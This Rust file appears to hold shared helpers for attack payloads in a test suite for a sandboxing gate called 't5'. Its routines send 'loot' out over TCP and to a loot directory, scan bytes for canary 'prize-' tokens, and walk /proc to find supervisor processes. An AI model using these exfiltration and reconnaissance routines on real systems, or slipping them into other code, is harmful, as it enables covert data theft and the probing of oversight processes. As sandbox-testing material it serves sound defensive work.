// What every payload has: ways to carry loot out, and to say that it is at its end.

#[allow(unused_imports, reason = "each attack uses a part of this")]
use std::{
    fs,
    io::{Read as _, Write as _},
    net::TcpStream,
    path::{Path, PathBuf},
    sync::Mutex,
    time::Duration,
};

static TOLD: Mutex<String> = Mutex::new(String::new());

/// Carries loot out by every way that could be open, and waits until it was heard.
#[allow(dead_code, reason = "each attack uses a part of this")]
fn tell(what: &str) {
    TOLD.lock().unwrap().push_str(what);
    let _ = fs::write(format!("{LOOT}/{}", std::process::id()), what);
    if let Ok(mut stream) =
        TcpStream::connect_timeout(&TCP.parse().unwrap(), Duration::from_secs(2))
    {
        let _ = stream.write_all(what.as_bytes());
        let _ = stream.read(&mut [0; 5]);
    }
    println!("{what}");
    eprintln!("{what}");
}

/// Tells every prize that these bytes hold.
#[allow(dead_code, reason = "each attack uses a part of this")]
fn hunt(bytes: &[u8]) {
    for at in 0..bytes.len().saturating_sub(37) {
        if bytes[at..].starts_with(b"prize-") && bytes[at + 6..at + 38].iter().all(u8::is_ascii_hexdigit) {
            tell(&String::from_utf8_lossy(&bytes[at..at + 38]));
        }
    }
}

/// The prize, for those who have to show that they did something. It stands in no source as such,
/// so that a report that quotes the source does not give it away.
#[allow(dead_code, reason = "each attack uses a part of this")]
fn prize() -> String {
    BACKWARDS.chars().rev().collect()
}

/// Says that everything was tried, and fails, so that the gate quotes what was said.
#[allow(dead_code, reason = "each attack uses a part of this")]
fn leave() -> ! {
    let _ = fs::write(format!("{LOOT}/reached-{}", std::process::id()), REACHED);
    eprintln!("error: {REACHED}");
    std::process::exit(101)
}

/// This process's parents, the nearest first, with their names.
#[allow(dead_code, reason = "each attack uses a part of this")]
fn ancestors() -> Vec<(i32, String)> {
    let mut found = Vec::new();
    let mut pid = std::os::unix::process::parent_id() as i32;
    while pid > 0 {
        let Ok(stat) = fs::read_to_string(format!("/proc/{pid}/stat")) else { break };
        let (Some((_, name)), Some((_, rest))) = (stat.split_once('('), stat.rsplit_once(") ")) else { break };
        let name = name.rsplit_once(") ").map_or(name, |(name, _)| name);
        found.push((pid, name.to_owned()));
        pid = rest.split(' ').nth(1).and_then(|parent| parent.parse().ok()).unwrap_or(0);
    }
    found
}

/// The processes of the gate among them.
#[allow(dead_code, reason = "each attack uses a part of this")]
fn supervisors() -> Vec<i32> {
    ancestors().into_iter().filter(|(_, name)| name == "t5").map(|(pid, _)| pid).collect()
}
